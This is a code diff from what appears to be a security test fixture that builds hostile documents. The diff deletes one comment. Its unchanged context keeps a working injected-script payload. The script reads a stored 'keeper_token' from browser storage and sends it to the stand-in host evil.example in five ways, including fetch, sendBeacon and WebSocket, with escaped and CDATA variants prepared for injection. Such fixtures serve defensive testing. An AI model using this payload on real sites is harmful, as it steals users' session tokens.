@@ -5,7 +5,6 @@ export interface HostileDocument {
 }
 
 const evilOrigin = 'https://evil.example'
-/** Reports that it ran and what the browser stores for Keeper, then sends it away in five ways. */
 const steal = `(()=>{const h=[self,self.top,self.parent,self.opener].map(w=>{try{return w&&w.gateHears}catch{}}).find(Boolean)||(()=>{});h('ran '+location.protocol);let t;try{t=localStorage.getItem('keeper_token')||''}catch{t=''}try{t=t||top.localStorage.getItem('keeper_token')||''}catch{}try{t=t||opener.localStorage.getItem('keeper_token')||''}catch{}if(t){h('token '+t);try{indexedDB.databases().then(d=>h('databases '+d.map(x=>x.name)))}catch{}try{fetch('${evilOrigin}/?f='+t)}catch{}try{new Image().src='${evilOrigin}/?i='+t}catch{}try{navigator.sendBeacon('${evilOrigin}/?b='+t)}catch{}try{new WebSocket('wss://evil.example/?w='+t)}catch{}}})()`
 const quoted = steal.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;')
 const cdata = `<![CDATA[${steal}]]>`
